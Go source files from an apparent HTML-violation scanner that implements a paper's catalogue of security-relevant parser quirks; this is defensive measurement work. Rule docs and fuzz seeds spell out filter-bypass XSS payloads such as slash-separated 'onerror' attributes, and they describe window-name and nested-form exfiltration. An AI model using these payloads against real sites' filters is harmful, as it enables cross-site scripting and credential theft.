	ID: "DE3_3", Name: "Non-terminated HTML: unclosed target attribute",
	Doc:   "Window-name exfiltration: an unterminated target attribute absorbs following content; window names survive cross-origin navigation, so the next click hands the content to the attacker (paper Figure 5).",
	Group: DataExfiltration, Category: ParsingError,
	Check:  func(p *Page) []Finding { return tokenFindings(p, de33Token) },
	Stream: tokenStream(de33Token),
}

func de33Token(t *htmlparse.Token, emit func(Finding)) {
	if t.Type != htmlparse.StartTagToken || !targetAttributeTags[t.Data] {
		return
	}
	for _, a := range t.Attr {
		if a.Name == "target" && strings.ContainsRune(a.RawValue, '\n') {
			emit(Finding{
				RuleID: "DE3_3", Pos: a.Pos,
				Evidence: "<" + t.Data + " target=" + truncate(a.RawValue, 80),
			})
		}
	}
}

// ruleDE4 detects nested form elements. The parser drops the inner form
// start tag, so an attacker-injected earlier form decides where user input
// is submitted (paper §3.2.2).
var ruleDE4 = Rule{
	ID: "DE4", Name: "Nested form element",
	Doc:   "A nested <form> start tag is silently dropped, so an attacker-injected earlier form decides where the victim's input is submitted (paper §3.2.2; cf. CVE-2020-29653-style credential theft).",
	Group: DataExfiltration, Category: ParsingError,
	TreeRequired: true,
	Check: func(p *Page) []Finding {
		return eventFindings(p, "DE4", htmlparse.EventNestedForm, nil)
	},
}

func truncate(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}
