package core

import "github.com/hvscan/hvscan/internal/htmlparse"

// This file is the measurement layer's ledger of every parse error the
// parser can emit — the coverage contract behind the paper's Table 1,
// and the error-name mapping table the conformance engine
// (internal/conformance, cmd/hvconform) checks its corpus against.
// Each htmlparse.ErrorCode constant appears in exactly one of two
// tables:
//
//   - SpecCoverage: codes the parser emits today, each with a minimal
//     provoking document and, where Table 1 has a dedicated rule for
//     the code, that rule's ID;
//   - UnemittedCodes: codes declared but unreachable, each with the
//     formal justification for why no parser path can produce them.
//
// TestSpecCoverageLedgerIsExhaustive (speccoverage_test.go) parses
// htmlparse/errors.go and fails if a constant is missing from both
// tables, so adding an ErrorCode forces a decision here. The hvlint
// specerrors analyzer enforces the same invariant at lint time; the
// conformance coverage gate (hvconform) additionally fails when the
// checked-in corpus stops provoking any code listed in SpecCoverage —
// the emitted set can only regress loudly.

// CoverageRow ties one ErrorCode to its accounting.
type CoverageRow struct {
	Code htmlparse.ErrorCode
	// Rule is the dedicated Table 1 rule consuming this code, or ""
	// when the code is only counted in the aggregate parsing-error
	// category.
	Rule string
	// Doc is a minimal document that provokes the code.
	Doc string
}

// SpecCoverage returns the ledger of emitted codes: every parse error
// the parser can produce, each with a minimal provoking document.
func SpecCoverage() []CoverageRow {
	return []CoverageRow{
		// Tokenizer-stage errors.
		{Code: htmlparse.ErrAbruptClosingOfEmptyComment, Doc: `<!DOCTYPE html><body><!--></body>`},
		{Code: htmlparse.ErrAbruptDoctypePublicIdentifier, Doc: `<!DOCTYPE html PUBLIC "a>`},
		{Code: htmlparse.ErrAbruptDoctypeSystemIdentifier, Doc: `<!DOCTYPE html SYSTEM "a>`},
		{Code: htmlparse.ErrAbsenceOfDigitsInNumericCharRef, Doc: `<!DOCTYPE html><body>&#;</body>`},
		{Code: htmlparse.ErrCDATAInHTMLContent, Doc: `<!DOCTYPE html><body><![CDATA[x]]></body>`},
		{Code: htmlparse.ErrCharRefOutsideUnicodeRange, Doc: `<!DOCTYPE html><body>&#x110000;</body>`},
		{Code: htmlparse.ErrControlCharacterInInputStream, Doc: "<!DOCTYPE html><body>a\x01b</body>"},
		{Code: htmlparse.ErrControlCharacterReference, Doc: `<!DOCTYPE html><body>&#x2;</body>`},
		{Code: htmlparse.ErrDuplicateAttribute, Rule: "DM3", Doc: `<!DOCTYPE html><body><p id="a" id="a">x</p></body>`},
		{Code: htmlparse.ErrEndTagWithAttributes, Doc: `<!DOCTYPE html><body><div>x</div id="a"></body>`},
		{Code: htmlparse.ErrEndTagWithTrailingSolidus, Doc: `<!DOCTYPE html><body><div>x</div/></body>`},
		{Code: htmlparse.ErrEOFBeforeTagName, Doc: `<!DOCTYPE html><body>x<`},
		{Code: htmlparse.ErrEOFInCDATA, Doc: `<!DOCTYPE html><body><svg><![CDATA[x`},
		{Code: htmlparse.ErrEOFInComment, Doc: `<!DOCTYPE html><body><!--x`},
		{Code: htmlparse.ErrEOFInDoctype, Doc: `<!DOCTYPE`},
		{Code: htmlparse.ErrEOFInScriptHTMLCommentLikeText, Doc: `<!DOCTYPE html><script><!--`},
		{Code: htmlparse.ErrEOFInTag, Doc: `<!DOCTYPE html><body><div `},
		{Code: htmlparse.ErrIncorrectlyClosedComment, Doc: `<!DOCTYPE html><body><!--x--!></body>`},
		{Code: htmlparse.ErrIncorrectlyOpenedComment, Doc: `<!DOCTYPE html><body><!x></body>`},
		{Code: htmlparse.ErrInvalidCharacterSequenceAfterDT, Doc: `<!DOCTYPE html BOGUS>`},
		{Code: htmlparse.ErrInvalidFirstCharacterOfTagName, Doc: `<!DOCTYPE html><body><3></body>`},
		{Code: htmlparse.ErrMissingAttributeValue, Doc: `<!DOCTYPE html><body><div a=>x</div></body>`},
		{Code: htmlparse.ErrMissingDoctypeName, Doc: `<!DOCTYPE>`},
		{Code: htmlparse.ErrMissingDoctypePublicIdentifier, Doc: `<!DOCTYPE html PUBLIC>`},
		{Code: htmlparse.ErrMissingDoctypeSystemIdentifier, Doc: `<!DOCTYPE html SYSTEM>`},
		{Code: htmlparse.ErrMissingEndTagName, Doc: `<!DOCTYPE html><body>x</></body>`},
		{Code: htmlparse.ErrMissingQuoteBeforeDoctypePublicID, Doc: `<!DOCTYPE html PUBLIC a>`},
		{Code: htmlparse.ErrMissingQuoteBeforeDoctypeSystemID, Doc: `<!DOCTYPE html SYSTEM a>`},
		{Code: htmlparse.ErrMissingSemicolonAfterCharRef, Doc: `<!DOCTYPE html><body>&#65 x</body>`},
		{Code: htmlparse.ErrMissingWhitespaceAfterDoctypeKW, Doc: `<!DOCTYPE html PUBLIC"a" "b">`},
		{Code: htmlparse.ErrMissingWhitespaceBeforeDoctypeName, Doc: `<!DOCTYPEhtml>`},
		{Code: htmlparse.ErrMissingWhitespaceBetweenAttributes, Rule: "FB2", Doc: `<!DOCTYPE html><body><img src="a"b="c"></body>`},
		{Code: htmlparse.ErrMissingWhitespaceBetweenDTIDs, Doc: `<!DOCTYPE html PUBLIC "a""b">`},
		{Code: htmlparse.ErrNestedComment, Doc: `<!DOCTYPE html><body><!--a<!--b--></body>`},
		{Code: htmlparse.ErrNoncharacterCharacterReference, Doc: `<!DOCTYPE html><body>&#xFDD0;</body>`},
		{Code: htmlparse.ErrNoncharacterInInputStream, Doc: "<!DOCTYPE html><body>a﷐b</body>"},
		{Code: htmlparse.ErrNullCharacterReference, Doc: `<!DOCTYPE html><body>&#0;</body>`},
		{Code: htmlparse.ErrSurrogateCharacterReference, Doc: `<!DOCTYPE html><body>&#xD800;</body>`},
		{Code: htmlparse.ErrUnexpectedCharacterAfterDTSystemID, Doc: `<!DOCTYPE html SYSTEM "a" b>`},
		{Code: htmlparse.ErrUnexpectedCharacterInAttributeName, Doc: `<!DOCTYPE html><body><div a"b=c>x</div></body>`},
		{Code: htmlparse.ErrUnexpectedCharInUnquotedAttrValue, Doc: `<!DOCTYPE html><body><div a=b"c>x</div></body>`},
		{Code: htmlparse.ErrUnexpectedEqualsSignBeforeAttrName, Doc: `<!DOCTYPE html><body><div =x>y</div></body>`},
		{Code: htmlparse.ErrUnexpectedNullCharacter, Doc: "<!DOCTYPE html><body><script>a\x00b</script></body>"},
		{Code: htmlparse.ErrUnexpectedQuestionMarkInsteadOfTag, Doc: `<!DOCTYPE html><body><?xml?></body>`},
		{Code: htmlparse.ErrUnexpectedSolidusInTag, Rule: "FB1", Doc: `<!DOCTYPE html><body><img/src=x></body>`},
		{Code: htmlparse.ErrUnknownNamedCharacterReference, Doc: `<!DOCTYPE html><body>&unknown;</body>`},

		// Tree-construction-stage errors.
		{Code: htmlparse.ErrNonVoidElementWithTrailingSolidus, Doc: `<!DOCTYPE html><body><div/>x</div></body>`},
		{Code: htmlparse.ErrUnexpectedTokenInInitialMode, Doc: `<p>x</p>`},
		{Code: htmlparse.ErrUnexpectedDoctype, Doc: `<!DOCTYPE html><body><!DOCTYPE html>x</body>`},
		{Code: htmlparse.ErrUnexpectedStartTag, Doc: `<!DOCTYPE html><body><td>x</body>`},
		{Code: htmlparse.ErrUnexpectedEndTag, Doc: `<!DOCTYPE html><body></p></body>`},
		{Code: htmlparse.ErrUnexpectedTextInTable, Doc: `<!DOCTYPE html><body><table>x</table></body>`},
		{Code: htmlparse.ErrUnexpectedEOFInElement, Doc: `<!DOCTYPE html><body><div>x`},
		{Code: htmlparse.ErrNestedFormElement, Doc: `<!DOCTYPE html><body><form><form>x</form></form></body>`},
		{Code: htmlparse.ErrSecondBodyStartTag, Doc: `<!DOCTYPE html><body><body>x</body>`},
		{Code: htmlparse.ErrFosterParenting, Doc: `<!DOCTYPE html><body><table><div>x</div></table></body>`},
		{Code: htmlparse.ErrForeignContentBreakout, Doc: `<!DOCTYPE html><body><svg><p>x</p></svg></body>`},
		{Code: htmlparse.ErrUnexpectedElementInHead, Doc: `<!DOCTYPE html><head></head><meta name="a"><body>x</body>`},
		{Code: htmlparse.ErrHTMLIntegrationMisnesting, Doc: `<!DOCTYPE html><body><circle>x</circle></body>`},
		{Code: htmlparse.ErrAdoptionAgencyMisnesting, Doc: `<!DOCTYPE html><body><a>x<a>y</a></body>`},
	}
}

// UnemittedCodes returns the codes declared in htmlparse/errors.go that
// no parser path can produce, with the formal justification for each.
// The conformance coverage report prints these as "justified-unreachable"
// instead of failing on them; when the parser learns to emit one,
// TestSpecCoverageUnemitted fails and the code must graduate into
// SpecCoverage with its provoking document.
func UnemittedCodes() map[htmlparse.ErrorCode]string {
	return map[htmlparse.ErrorCode]string{
		// The byte stream decoder rejects any stream containing a UTF-8
		// encoded surrogate as ErrNotUTF8 (Go's utf8.Valid, per WHATWG
		// UTF-8 decode), so the preprocessor's surrogate check can never
		// see one. The measurement pipeline filters those documents out
		// entirely (paper §4.1) rather than recording a parse error.
		htmlparse.ErrSurrogateInInputStream: "unreachable behind the ErrNotUTF8 preprocess gate",
	}
}
