package core

import (
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Filter Bypass rules (paper §3.2.2 FB1/FB2). Neither has security impact
// on its own; both defeat filters that block whitespace, which makes them
// standard components of real-world XSS payloads.

// ruleFB1 detects a solidus used as an attribute separator:
// <img/src="x"/onerror="alert(1)">. The tokenizer raises
// unexpected-solidus-in-tag and treats the slash as whitespace.
var ruleFB1 = Rule{
	ID: "FB1", Name: "Slashes between attributes",
	Doc:   "A solidus between attributes is treated as whitespace, so filters that block spaces are bypassed with <img/src=x/onerror=...> (paper §3.2.2).",
	Group: FilterBypass, Category: ParsingError,
	AutoFixable: true,
	Check: func(p *Page) []Finding {
		return errorFindings(p, "FB1", htmlparse.ErrUnexpectedSolidusInTag)
	},
	Stream: errorStream("FB1", htmlparse.ErrUnexpectedSolidusInTag),
}

// ruleFB2 detects attributes concatenated without whitespace:
// <img src="u"onerror="alert(1)">. The tokenizer raises
// missing-whitespace-between-attributes and inserts the separator itself.
var ruleFB2 = Rule{
	ID: "FB2", Name: "Missing space between attributes",
	Doc:   "Attributes glued together without whitespace are silently separated, the other standard space-filter bypass (paper §3.2.2).",
	Group: FilterBypass, Category: ParsingError,
	AutoFixable: true,
	Check: func(p *Page) []Finding {
		return errorFindings(p, "FB2", htmlparse.ErrMissingWhitespaceBetweenAttributes)
	},
	Stream: errorStream("FB2", htmlparse.ErrMissingWhitespaceBetweenAttributes),
}
