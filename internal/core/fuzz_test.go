package core

import (
	"testing"

	"github.com/hvscan/hvscan/internal/htmlparse"
)

// FuzzCheck: the checker must never fail on arbitrary input, and the
// streaming subset must agree with the full check on the tokenizer-level
// rules (same parse, same errors, same findings).
func FuzzCheck(f *testing.F) {
	seeds := []string{
		"",
		"<!DOCTYPE html><p>fine</p>",
		`<img/src=x/onerror=e><div a=1 a=2>`,
		`<form action=/a><form action=/b></form>`,
		`<table><b>x</b></table><svg><div>y</div></svg>`,
		`<base href=/x><base href=/y><meta http-equiv=refresh content=1>`,
		`<textarea><select><option>`,
		"<a target='multi\nline'>x</a><img src='u\n<b>'>",
	}
	for _, s := range seeds {
		f.Add([]byte(s))
	}
	full := NewChecker()
	stream := NewStreamingChecker()
	f.Fuzz(func(t *testing.T, data []byte) {
		fullRep, err := full.Check(data)
		if err != nil {
			if err == htmlparse.ErrNotUTF8 {
				return
			}
			t.Fatalf("full check: %v", err)
		}
		streamRep, err := stream.CheckStream(data)
		if err != nil {
			t.Fatalf("stream check: %v", err)
		}
		// Both paths must run to completion on anything. (Their findings can
		// legitimately differ on adversarial input: the standalone
		// tokenizer auto-switches raw-text states even inside foreign
		// content, where the tree-driven parse does not. Strict equality is
		// asserted on realistic pages in TestStreamVsFullOnCorpus.)
		_ = fullRep
		_ = streamRep
	})
}
