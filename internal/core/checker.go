package core

import (
	"context"
	"sort"
	"strings"

	"github.com/hvscan/hvscan/internal/htmlparse"
	"github.com/hvscan/hvscan/internal/obs"
)

// Report is the outcome of checking one page against the catalogue.
type Report struct {
	URL      string
	Findings []Finding
	// RuleHits maps rule ID to the number of findings for it.
	RuleHits map[string]int
	// Signals are the auxiliary per-page measurements of paper §4.2/§4.5
	// (mitigation overlap, math element usage).
	Signals Signals
}

// Signals captures page properties the paper's mitigation analysis (§4.5)
// and general statistics (§4.2) report alongside the violations.
type Signals struct {
	// NewlineInURL: some URL-valued attribute contains a raw newline
	// (West's 2017 measurement: 0.47% of page views).
	NewlineInURL bool
	// NewlineAndLtInURL: a URL contains both a newline and '<' — the
	// condition Chromium blocks since 2017.
	NewlineAndLtInURL bool
	// ScriptInAttribute: "<script" appears inside an attribute value — the
	// nonce-stealing mitigation trigger.
	ScriptInAttribute bool
	// NonceScriptAffected: a script element carries both a CSP nonce and
	// "<script" in an attribute, i.e. the mitigation would actually fire
	// (the paper found zero such elements).
	NonceScriptAffected bool
	// UsesMath: the page contains a math element (tracked because HF5_3
	// is so rare that the paper contrasts it with math adoption).
	UsesMath bool
	// UsesSVG: the page contains an svg element.
	UsesSVG bool
}

// Violated reports whether the given rule produced at least one finding.
func (r *Report) Violated(id string) bool { return r.RuleHits[id] > 0 }

// HasViolation reports whether any rule fired.
func (r *Report) HasViolation() bool { return len(r.Findings) > 0 }

// ViolatedIDs returns the sorted IDs of all rules that fired.
func (r *Report) ViolatedIDs() []string {
	ids := make([]string, 0, len(r.RuleHits))
	for id, n := range r.RuleHits {
		if n > 0 {
			ids = append(ids, id)
		}
	}
	sort.Strings(ids)
	return ids
}

// OnlyAutoFixable reports whether every violation on the page belongs to
// the automatically repairable classes (paper §4.4: a site is "quickly
// fixable" if automation alone would clear it).
func (r *Report) OnlyAutoFixable() bool {
	if !r.HasViolation() {
		return false
	}
	for id := range r.RuleHits {
		rule, ok := RuleByID(id)
		if !ok || !rule.AutoFixable {
			return false
		}
	}
	return true
}

// Checker runs a set of rules over pages. The zero value is not usable;
// construct with NewChecker.
type Checker struct {
	rules []Rule
	// needTree records whether any configured rule needs the parse tree.
	// When false, Check routes through the constant-memory streaming path
	// and never builds a DOM (the two-phase design of ROADMAP item 5).
	needTree bool
	// hits, when instrumented, holds one counter per rule (parallel to
	// rules); pages counts every document checked. Both stay nil on an
	// uninstrumented checker, keeping the hot path a nil check.
	hits  []*obs.Counter
	pages *obs.Counter
}

func newChecker(rs []Rule) *Checker {
	c := &Checker{rules: rs}
	for _, r := range rs {
		if r.TreeRequired || r.Stream == nil {
			c.needTree = true
		}
	}
	return c
}

// NewChecker returns a checker over the full catalogue, or over the given
// subset if rule IDs are passed.
func NewChecker(ids ...string) *Checker {
	if len(ids) == 0 {
		return newChecker(Rules())
	}
	var rs []Rule
	for _, id := range ids {
		if r, ok := RuleByID(id); ok {
			rs = append(rs, r)
		}
	}
	return newChecker(rs)
}

// NewCheckerWith returns a checker over an explicit rule list —
// catalogue rules, custom rules, or a mix. The serving layer's fault
// tests use it to inject misbehaving rules; embedders use it to run
// house rules beside the catalogue.
func NewCheckerWith(rules ...Rule) *Checker {
	return newChecker(rules)
}

// NewStreamingChecker returns a checker restricted to rules decidable from
// the tokenizer alone (no tree construction). Used standalone for cheap
// scans and by the shared-parse ablation benchmark.
func NewStreamingChecker() *Checker {
	var rs []Rule
	for _, r := range Rules() {
		if !r.TreeRequired {
			rs = append(rs, r)
		}
	}
	return newChecker(rs)
}

// Rules returns the checker's rule set.
func (c *Checker) Rules() []Rule { return c.rules }

// NeedsTree reports whether any configured rule requires the parse
// tree. A false return means Check runs entirely on the constant-
// memory streaming path; serving layers use this to pick between
// CheckStreamContext and a depth-capped tree parse.
func (c *Checker) NeedsTree() bool { return c.needTree }

// Instrument registers per-rule hit counters (core_rule_hits_total,
// labelled by rule ID) and a checked-pages counter on reg, and returns the
// checker for chaining. The counters aggregate across every page the
// checker sees, so a metrics endpoint answers "which rules fire most"
// without waiting for the store to fill.
func (c *Checker) Instrument(reg *obs.Registry) *Checker {
	ids := make([]string, len(c.rules))
	for i, r := range c.rules {
		ids[i] = r.ID
	}
	byID := reg.CounterVec("core_rule_hits_total", "rule", ids...)
	c.hits = make([]*obs.Counter, len(c.rules))
	for i, r := range c.rules {
		c.hits[i] = byID[r.ID]
	}
	c.pages = reg.Counter("core_pages_checked_total")
	return c
}

// countHits records a page's rule outcomes on the instrumented counters.
func (c *Checker) countHits(rep *Report) {
	if c.pages == nil {
		return
	}
	c.pages.Inc()
	for i, r := range c.rules {
		if n := rep.RuleHits[r.ID]; n > 0 {
			c.hits[i].Add(uint64(n))
		}
	}
}

// runRules is the single report-assembly path shared by the tree and the
// stream modes: it asks findingsFor for each configured rule's findings
// (in catalogue order, i indexing c.rules), fills RuleHits, attaches the
// signals, and records the instrumented counters — so the two modes cannot
// drift in how a Report is put together.
func (c *Checker) runRules(url string, sig Signals, findingsFor func(i int, r Rule) []Finding) *Report {
	rep := &Report{URL: url, RuleHits: make(map[string]int, len(c.rules))}
	for i, rule := range c.rules {
		fs := findingsFor(i, rule)
		if len(fs) > 0 {
			rep.RuleHits[rule.ID] = len(fs)
			rep.Findings = append(rep.Findings, fs...)
		}
	}
	rep.Signals = sig
	c.countHits(rep)
	return rep
}

// Check checks the document, building a parse tree only if a configured
// rule needs one: a checker whose rules are all streaming-capable routes
// through the constant-memory CheckStream path automatically. It returns
// htmlparse.ErrNotUTF8 for documents the pipeline must filter (paper
// §4.1).
func (c *Checker) Check(html []byte) (*Report, error) {
	if !c.needTree {
		return c.CheckStream(html)
	}
	res, err := htmlparse.ParseReuse(html)
	if err != nil {
		return nil, err
	}
	return c.CheckParsed(&Page{Result: res}), nil
}

// CheckParsed runs the rules over an already parsed page.
func (c *Checker) CheckParsed(p *Page) *Report {
	return c.runRules(p.URL, computeSignals(p), func(_ int, r Rule) []Finding {
		return r.Check(p)
	})
}

// CheckStream tokenizes without tree construction and runs the streaming
// rule subset in O(1) token memory: no token slice is accumulated, and
// each rule holds constant per-document state. Tree-required rules in the
// checker's set are skipped.
func (c *Checker) CheckStream(html []byte) (*Report, error) {
	ts, err := htmlparse.NewTokenStream(html)
	if err != nil {
		return nil, err
	}
	rep := c.CheckTokenStream(ts)
	ts.Close()
	return rep, nil
}

// CheckStreamContext is CheckStream bounded by ctx: the token loop
// polls the context between batches, so a request deadline or a client
// disconnect interrupts the check mid-document instead of letting a
// hostile body hold a worker. On cancellation it returns ctx's error
// and no report.
func (c *Checker) CheckStreamContext(ctx context.Context, html []byte) (*Report, error) {
	ts, err := htmlparse.NewTokenStream(html)
	if err != nil {
		return nil, err
	}
	rep, err := c.checkTokenStream(ctx, ts)
	ts.Close()
	return rep, err
}

// CheckTokenStreamContext is CheckTokenStream bounded by ctx (see
// CheckStreamContext); the caller still owns closing ts.
func (c *Checker) CheckTokenStreamContext(ctx context.Context, ts *htmlparse.TokenStream) (*Report, error) {
	return c.checkTokenStream(ctx, ts)
}

// CheckTokenStream drives the streaming rules over an open token stream.
// The report is fully assembled before returning — findings never alias
// the stream's recycled scratch — so the caller may Close the stream
// immediately after (CheckStream does; the conformance runner keeps it
// open long enough to read Hazard).
func (c *Checker) CheckTokenStream(ts *htmlparse.TokenStream) *Report {
	rep, _ := c.checkTokenStream(nil, ts)
	return rep
}

// cancelStride is how many tokens the streaming checker processes
// between context polls; mirrors the tree builder's stride.
const cancelStride = 512

// checkTokenStream is the single streaming implementation; ctx may be
// nil for the uncancellable path (no polling, no overhead).
func (c *Checker) checkTokenStream(ctx context.Context, ts *htmlparse.TokenStream) (*Report, error) {
	streams := make([]RuleStream, len(c.rules))
	found := make([][]Finding, len(c.rules))
	emits := make([]func(Finding), len(c.rules))
	for i, r := range c.rules {
		if r.Stream == nil {
			continue
		}
		streams[i] = r.Stream()
		i := i
		emits[i] = func(f Finding) { found[i] = append(found[i], f) }
	}
	var sig Signals
	// One token variable for the whole loop: its address is passed to
	// opaque hook funcs, so it escapes — once per document, not per token.
	var t htmlparse.Token
	tick := 0
	for {
		if ctx != nil {
			if tick++; tick >= cancelStride {
				tick = 0
				if err := ctx.Err(); err != nil {
					return nil, err
				}
			}
		}
		t = ts.Next()
		if t.Type == htmlparse.EOFToken {
			break
		}
		if t.Type != htmlparse.StartTagToken && t.Type != htmlparse.EndTagToken {
			continue
		}
		if t.Type == htmlparse.StartTagToken {
			sig.observe(&t)
		}
		for i := range streams {
			if streams[i].Token != nil {
				streams[i].Token(&t, emits[i])
			}
		}
	}
	for _, e := range ts.Errors() {
		for i := range streams {
			if streams[i].Error != nil {
				streams[i].Error(e, emits[i])
			}
		}
	}
	return c.runRules("", sig, func(i int, _ Rule) []Finding { return found[i] }), nil
}

func computeSignals(p *Page) Signals {
	var s Signals
	for i := range p.Tokens {
		if p.Tokens[i].Type == htmlparse.StartTagToken {
			s.observe(&p.Tokens[i])
		}
	}
	if p.Doc != nil && !s.UsesMath {
		s.UsesMath = p.Doc.Find(func(n *htmlparse.Node) bool {
			return n.Type == htmlparse.ElementNode && n.Data == "math"
		}) != nil
	}
	return s
}

// observe folds one start tag into the signals. The streaming checker
// calls this once per tag as it goes; computeSignals replays the recorded
// token slice of a full parse through it, so both modes measure signals
// with the same code.
//
//hv:hotpath runs once per start tag on the constant-memory streaming path
func (s *Signals) observe(t *htmlparse.Token) {
	switch t.Data {
	case "math":
		s.UsesMath = true
	case "svg":
		s.UsesSVG = true
	}
	hasNonce := false
	hasScriptStr := false
	for _, a := range t.Attr {
		if urlAttributes[a.Name] && strings.ContainsRune(a.RawValue, '\n') {
			s.NewlineInURL = true
			if strings.ContainsRune(a.RawValue, '<') {
				s.NewlineAndLtInURL = true
			}
		}
		if strings.Contains(strings.ToLower(a.RawValue), "<script") {
			s.ScriptInAttribute = true
			hasScriptStr = true
		}
		if a.Name == "nonce" {
			hasNonce = true
		}
	}
	if t.Data == "script" && hasNonce && hasScriptStr {
		s.NonceScriptAffected = true
	}
}
