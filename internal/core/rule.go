// Package core implements the security-relevant HTML specification
// violation catalogue of Hantke & Stock (IMC '22), Table 1: twenty
// checks across four problem groups, each defined over a single
// instrumented parse (internal/htmlparse). This package is the paper's
// primary contribution — the measurement rules — while the rest of the
// repository provides the substrates to run them at scale.
package core

import (
	"fmt"

	"github.com/hvscan/hvscan/internal/htmlparse"
)

// Group classifies a violation by its security influence (paper §3.2).
type Group string

const (
	// DataExfiltration problems are used to exfiltrate secret information.
	DataExfiltration Group = "DE"
	// DataManipulation problems are used to manipulate content.
	DataManipulation Group = "DM"
	// HTMLFormatting problems enable mutation XSS.
	HTMLFormatting Group = "HF"
	// FilterBypass problems bypass HTML filters and WAFs.
	FilterBypass Group = "FB"
)

// Category separates the two violation types of paper §3.2.
type Category string

const (
	// DefinitionViolation: the spec's definition and the parsing process
	// contradict each other; the parser passes no error state.
	DefinitionViolation Category = "definition"
	// ParsingError: the parser passes a named error state in the tokenizer
	// or tree builder and silently repairs.
	ParsingError Category = "parsing"
)

// Rule is one violation check. Rules run independently of each other over
// the same parse, exactly as the paper's framework runs its rules.
type Rule struct {
	// ID is the paper's identifier, e.g. "DE3_1" or "FB2".
	ID string
	// Name is the human-readable title from Table 1.
	Name     string
	Group    Group
	Category Category
	// AutoFixable marks violations the paper's §4.4 analysis classifies as
	// automatically repairable (FB and DM groups).
	AutoFixable bool
	// Doc is a one-paragraph description of the attack the violation
	// enables, with the paper section it comes from.
	Doc string
	// TreeRequired is false for rules decidable from the tokenizer alone
	// (used by the streaming checker and the ablation benchmarks).
	TreeRequired bool
	// Check inspects one parsed page and returns all findings.
	Check func(p *Page) []Finding
	// Stream, set on every TreeRequired=false rule, returns fresh
	// per-document streaming state. The streaming checker drives the hooks
	// directly off the tokenizer so no token slice is ever materialized;
	// Check and Stream must agree finding-for-finding (the stream≡tree
	// metamorphic invariant), which the catalogue guarantees by deriving
	// both from one shared hook (see tokenFindings / errorStream).
	Stream func() RuleStream
}

// RuleStream is the per-document state of one streaming rule. Hooks are
// optional; a nil hook is skipped. The checker calls Token for every start
// and end tag in document order (the token — including its attribute
// array — is only valid for the duration of the call), then Error once
// per parse error after the stream drains. Hooks append via emit and must
// keep O(1) state of their own so the whole pass stays constant-memory.
type RuleStream struct {
	Token func(t *htmlparse.Token, emit func(Finding))
	Error func(e htmlparse.ParseError, emit func(Finding))
}

// Finding is one observed violation instance.
type Finding struct {
	RuleID   string
	Pos      htmlparse.Position
	Evidence string
}

func (f Finding) String() string {
	if f.Evidence != "" {
		return fmt.Sprintf("%s at %s: %s", f.RuleID, f.Pos, f.Evidence)
	}
	return fmt.Sprintf("%s at %s", f.RuleID, f.Pos)
}

// Page bundles everything the rules may inspect about one document.
type Page struct {
	// Result is the instrumented parse.
	*htmlparse.Result
	// URL is the page's address, for reporting only.
	URL string
}

// Rules returns the complete violation catalogue in Table 1 order
// (sub-violations expanded). The returned slice is freshly allocated; the
// Rule values are shared and must not be mutated.
func Rules() []Rule {
	return []Rule{
		ruleDE1, ruleDE2, ruleDE3_1, ruleDE3_2, ruleDE3_3, ruleDE4,
		ruleDM1, ruleDM2_1, ruleDM2_2, ruleDM2_3, ruleDM3,
		ruleHF1, ruleHF2, ruleHF3, ruleHF4, ruleHF5_1, ruleHF5_2, ruleHF5_3,
		ruleFB1, ruleFB2,
	}
}

// RuleByID returns the rule with the given ID.
func RuleByID(id string) (Rule, bool) {
	for _, r := range Rules() {
		if r.ID == id {
			return r, true
		}
	}
	return Rule{}, false
}

// RuleIDs returns all rule IDs in catalogue order.
func RuleIDs() []string {
	rules := Rules()
	ids := make([]string, len(rules))
	for i, r := range rules {
		ids[i] = r.ID
	}
	return ids
}

// GroupOf returns the group of a rule ID ("DE3_1" -> DE). Unknown IDs map
// to an empty group.
func GroupOf(id string) Group {
	if len(id) < 2 {
		return ""
	}
	switch id[:2] {
	case "DE":
		return DataExfiltration
	case "DM":
		return DataManipulation
	case "HF":
		return HTMLFormatting
	case "FB":
		return FilterBypass
	}
	return ""
}

// errorFindings converts every parse error with the given code into a
// finding for the rule.
func errorFindings(p *Page, id string, code htmlparse.ErrorCode) []Finding {
	var out []Finding
	for _, e := range p.ErrorsByCode(code) {
		out = append(out, Finding{RuleID: id, Pos: e.Pos, Evidence: e.Detail})
	}
	return out
}

// tokenFindings replays the recorded token slice of a full parse through a
// streaming token hook — the bridge that lets a streaming rule's single
// implementation serve the tree path too, so the two modes cannot drift.
func tokenFindings(p *Page, hook func(*htmlparse.Token, func(Finding))) []Finding {
	var out []Finding
	emit := func(f Finding) { out = append(out, f) }
	for i := range p.Tokens {
		hook(&p.Tokens[i], emit)
	}
	return out
}

// tokenStream wraps a stateless per-token hook as a Stream constructor.
func tokenStream(hook func(*htmlparse.Token, func(Finding))) func() RuleStream {
	return func() RuleStream { return RuleStream{Token: hook} }
}

// errorStream builds the Stream hook of a rule whose findings are exactly
// the parse errors carrying one code — the streaming counterpart of
// errorFindings (both stages report a given code in the same relative
// order, so the two paths yield identical finding sequences).
func errorStream(id string, code htmlparse.ErrorCode) func() RuleStream {
	return func() RuleStream {
		return RuleStream{Error: func(e htmlparse.ParseError, emit func(Finding)) {
			if e.Code == code {
				emit(Finding{RuleID: id, Pos: e.Pos, Evidence: e.Detail})
			}
		}}
	}
}

// eventFindings converts matching tree events into findings.
func eventFindings(p *Page, id string, kind htmlparse.EventKind, match func(htmlparse.TreeEvent) bool) []Finding {
	var out []Finding
	for _, e := range p.EventsByKind(kind) {
		if match != nil && !match(e) {
			continue
		}
		out = append(out, Finding{RuleID: id, Pos: e.Pos, Evidence: e.Detail})
	}
	return out
}
