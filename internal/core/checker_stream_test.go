package core

import (
	"testing"

	"github.com/hvscan/hvscan/internal/corpus"
)

// TestStreamVsFullOnCorpus: on realistic pages the streaming (tokenizer-
// only) checker and the full checker must agree on every tokenizer-level
// rule — the property that makes the cheap scan a sound pre-filter.
func TestStreamVsFullOnCorpus(t *testing.T) {
	g := corpus.New(corpus.Config{Seed: 13, Domains: 120, MaxPages: 3})
	full := NewChecker()
	stream := NewStreamingChecker()
	snap := corpus.Snapshots[4]
	pages := 0
	for _, d := range g.Universe() {
		if !g.Succeeds(d, snap) {
			continue
		}
		n := g.PageCount(d, snap)
		if n > 2 {
			n = 2
		}
		for i := 0; i < n; i++ {
			body := g.PageHTML(d, snap, i)
			fullRep, err := full.Check(body)
			if err != nil {
				t.Fatal(err)
			}
			streamRep, err := stream.CheckStream(body)
			if err != nil {
				t.Fatal(err)
			}
			pages++
			for _, rule := range stream.Rules() {
				if fullRep.Violated(rule.ID) != streamRep.Violated(rule.ID) {
					t.Fatalf("%s page %d: %s full=%v stream=%v\n%s",
